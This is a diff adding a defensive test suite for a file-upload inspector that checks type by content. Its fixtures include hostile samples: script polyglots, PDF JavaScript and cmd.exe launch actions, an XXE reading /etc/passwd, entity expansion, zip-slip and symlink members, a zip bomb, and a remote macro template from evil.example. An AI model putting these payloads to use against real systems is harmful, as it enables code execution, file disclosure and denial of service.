@@ -1,0 +1,165 @@
+import { describe, expect, test } from 'vitest'
+import { inspectBytes } from './inspect.ts'
+import { compound, docx, pdf, photo, zip } from './samples.fixture.ts'
+
+const seen = async (name: string, bytes: Buffer) => {
+  const found = await inspectBytes(bytes, name)
+  return found && { type: found.type, marks: found.marks }
+}
+const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'
+const workbook = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
+const html = Buffer.from(`<html><script>alert(1)</script>${' '.repeat(600)}</html>`)
+const packed = (text: string): Buffer => {
+  const { deflateSync } = process.getBuiltinModule('zlib')
+  return deflateSync(Buffer.from(text))
+}
+const withPacked = (text: string): Buffer => {
+  const whole = pdf({ objects: '@@' }).toString('latin1')
+  return Buffer.from(
+    whole.replace('@@', `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n${packed(text).toString('latin1')}\nendstream\nendobj\n`),
+    'latin1',
+  )
+}
+const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(64), Buffer.from('*/=1;alert(1)')])
+const plainJpeg = await photo()
+const plainPng = await photo({ format: 'png' })
+const commented = Buffer.concat([
+  plainJpeg.subarray(0, 2),
+  Buffer.from('fffe0020', 'hex'),
+  Buffer.from('<script>alert(1)</script>12345'),
+  plainJpeg.subarray(2),
+])
+const flood = (() => {
+  const header = Buffer.from('0000000d49484452000186a0000186a00806000000', 'hex')
+  return Buffer.concat([plainPng.subarray(0, 8), header, plainPng.subarray(29)])
+})()
+const part = (name: string, content: string | Buffer = 'x', more = {}) => ({ name, content, ...more })
+const relation = (type: string, target: string) =>
+  part(
+    'word/_rels/settings.xml.rels',
+    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  )
+
+describe('R130 R131 what a file is, by its content', () => {
+  test.each<[string, string, Buffer, { type: string; marks: string[] } | null]>([
+    ['a PDF', 'ok.pdf', pdf(), { type: 'pdf', marks: [] }],
+    ['FC-001 HTML named .pdf', 'x.pdf', html, null],
+    ['FC-002 a PDF mark, then HTML', 'x.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), html]), null],
+    ['FC-003 a PDF mark at offset 500', 'x.pdf', Buffer.concat([html.subarray(0, 500), pdf()]), null],
+    [
+      'FC-004 a PDF with JavaScript',
+      'x.pdf',
+      pdf({ objects: '5 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n' }),
+      { type: 'pdf', marks: ['script'] },
+    ],
+    [
+      'FC-004 the same spelled in numbers',
+      'x.pdf',
+      pdf({ objects: '5 0 obj\n<< /S /Java#53cript >>\nendobj\n' }),
+      { type: 'pdf', marks: ['script'] },
+    ],
+    ['FC-004 the same packed away', 'x.pdf', withPacked('5 0 << /S /JavaScript /JS (x) >>'), { type: 'pdf', marks: ['script'] }],
+    ['FC-005 a PDF that starts a program', 'x.pdf', pdf({ objects: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n' }), null],
+    ['FC-005 the same packed away', 'x.pdf', withPacked('5 0 << /S /Launch >>'), null],
+    ['a PDF with another file after its end', 'x.pdf', pdf({ tail: 'PK\u0003\u0004' }), null],
+    ['FC-007 a PNG mark, then HTML', 'x.png', Buffer.concat([plainPng.subarray(0, 8), html]), null],
+    ['FC-008 a JPEG with script in a comment', 'x.jpg', commented, { type: 'jpg', marks: [] }],
+    [
+      'FC-009 SVG named .png',
+      'x.png',
+      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${' '.repeat(60)}</svg>`),
+      null,
+    ],
+    ['FC-010 GIF named .jpg', 'x.jpg', gif, null],
+    ['a picture of ten thousand million pixels', 'x.png', flood, null],
+    ['a PNG named .jpg', 'x.jpg', plainPng, null],
+    ['half a JPEG', 'x.jpg', plainJpeg.subarray(0, plainJpeg.length - 40), null],
+    ['a Word document', 'ok.docx', docx(), { type: 'docx', marks: [] }],
+    ['FC-011 a macro document renamed', 'x.docx', docx({ type: macroMain }), null],
+    ['FC-011 a Word document with a macro part', 'x.docx', docx({ more: [part('word/vbaProject.bin')] }), null],
+    [
+      'FC-013 a template fetched from elsewhere',
+      'x.docx',
+      docx({ more: [relation('attachedTemplate', 'http://evil.example/t.dotm')] }),
+      { type: 'docx', marks: ['external-links'] },
+    ],
+    ['a link to a page', 'x.docx', docx({ more: [relation('hyperlink', 'https://acas.org.uk')] }), { type: 'docx', marks: [] }],
+    [
+      'FC-014 a DOCTYPE',
+      'x.docx',
+      docx({ document: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>' }),
+      null,
+    ],
+    [
+      'FC-015 entities in entities',
+      'x.docx',
+      docx({ more: [part('word/styles.xml', '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>')] }),
+      null,
+    ],
+    ['FC-018 a member that leads out', 'x.docx', docx({ more: [part('../../x')] }), null],
+    ['FC-019 a member that is a link', 'x.docx', docx({ more: [part('word/link', '/etc/passwd', { attributes: 0o120777 << 16 })] }), null],
+    ['FC-020 a zip in it', 'x.docx', docx({ more: [part('word/inner.zip', zip([part('a', 'b')]))] }), null],
+    ['more members than a document has', 'x.docx', docx({ more: Array.from({ length: 2001 }, (_, i) => part(`word/${i}`)) }), null],
+    ['FC-021 an old Word document', 'ok.doc', compound(['Root Entry', 'WordDocument', '1Table']), { type: 'doc', marks: [] }],
+    [
+      'FC-021 D5 the same with macros',
+      'x.doc',
+      compound(['Root Entry', 'WordDocument', 'Macros', 'VBA']),
+      { type: 'doc', marks: ['macros'] },
+    ],
+    ['an installer named .doc', 'x.doc', compound(['Root Entry', '\u0005SummaryInformation', 'Property']), null],
+    [
+      'FC-024 a Word document with a password',
+      'x.docx',
+      compound(['Root Entry', 'EncryptionInfo', 'EncryptedPackage']),
+      { type: 'docx', marks: ['encrypted'] },
+    ],
+    [
+      'FC-025 the scanner’s test file',
+      'eicar.pdf',
+      Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
+      null,
+    ],
+    ['FC-029 a workbook named .docx', 'x.docx', docx({ type: workbook }), null],
+    ['FC-031 nothing', 'x.pdf', Buffer.alloc(0), null],
+    ['a PDF with an ending that is not stored', 'x.heic', pdf(), null],
+  ])('%s', async (_title, name, bytes, expected) => {
+    expect(await seen(name, bytes)).toEqual(expected)
+  })
+
+  test('FC-016 612 kB that unpack to 600 MB are refused quickly and in little memory', async () => {
+    const bomb = docx({ more: [part('word/big.xml', Buffer.alloc(120 * 1024 * 1024), { pack: true })] })
+    expect(bomb.length).toBeLessThan(400_000)
+    const before = process.memoryUsage().rss
+    const start = performance.now()
+    expect(await inspectBytes(bomb, 'x.docx')).toBeNull()
+    expect(performance.now() - start).toBeLessThan(2_000)
+    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024)
+  })
+
+  test('a container that says it is small and is not is refused as well', async () => {
+    const lies = docx({ more: [part('word/big.xml', Buffer.alloc(3_000_000), { pack: true })] })
+    const at = lies.lastIndexOf('word/big.xml') - 22
+    lies.writeUInt32LE(1000, at)
+    expect(await inspectBytes(lies, 'x.docx')).toBeNull()
+  })
+
+  test.each([['jpg', plainJpeg] as const, ['png', plainPng] as const])(
+    'FC-028 a %s loses the place it was taken and keeps its pixels',
+    async (ending, sent) => {
+      const { default: sharp } = await import('sharp')
+      const tail = Buffer.concat([sent, Buffer.from('<script>after</script>')])
+      const found = await inspectBytes(tail, `holiday.${ending}`)
+      const cleaned = found?.cleaned as Buffer
+      expect(sent.includes('private remark')).toBe(true)
+      expect(['private remark', '<script>'].filter((text) => cleaned.includes(text))).toEqual([])
+      const pixels = (bytes: Buffer) => sharp(bytes).raw().toBuffer()
+      expect((await pixels(cleaned)).equals(await pixels(sent))).toBe(true)
+      if (ending === 'jpg') expect((await sharp(cleaned).metadata()).orientation).toBe((await sharp(sent).metadata()).orientation)
+    },
+  )
+
+  test('FC-008 the comment of a JPEG is gone from what is kept', async () => {
+    expect((await inspectBytes(commented, 'x.jpg'))?.cleaned?.includes('<script>')).toBe(false)
+  })
+})
